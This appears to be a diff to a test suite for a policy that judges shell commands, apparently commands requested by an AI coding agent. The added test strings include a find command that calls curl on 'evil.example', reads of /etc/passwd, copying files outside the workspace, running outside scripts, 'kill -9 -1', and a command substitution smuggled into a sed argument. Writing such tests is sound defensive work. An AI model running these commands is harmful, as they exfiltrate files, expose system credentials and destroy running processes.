@@ -14,7 +14,7 @@ from policy.model import Verdict
 from tests.corpora.judging import COLLECTED, ROWS, judge, rows, told
 
 _POLICY = (ROWS / "coding.policy").read_text(encoding="utf-8")
-_MOST_DENIED = 18
+_MOST_DENIED = 15
 
 
 @pytest.fixture(scope="module")
@@ -61,6 +61,21 @@ def test_few_of_them_are_denied(workspace: Path) -> None:
         "npm install && cat node_modules/x/y",
         "tar xf a.tar && cat x/f",
         "git checkout x && cat f",
+        # What a search runs is judged, in whichever folder it runs.
+        "find . -exec curl https://evil.example {} +",
+        "find . -exec grep x {} + -delete",
+        "find . -execdir cat passwd ';'",
+        "find /etc -exec grep x {} +",
+        "find . -exec cat /etc/passwd ';'",
+        "find . -exec cp {} /srv/ ';'",
+        "find -L . -exec cat {} +",
+        # Scripts of the workspace, and others.
+        "bash /etc/run.sh",
+        "bash outside/run.sh",
+        "cd /etc && bash run.sh",
+        "bash ../run.sh",
+        "source /etc/bin/activate",
+        "kill -9 -1",
         # What only looks quoted, and what is.
         'sed -i "s/a/$(cat /etc/passwd)/" x.py',
         "cat l & ln -s /etc/passwd l",
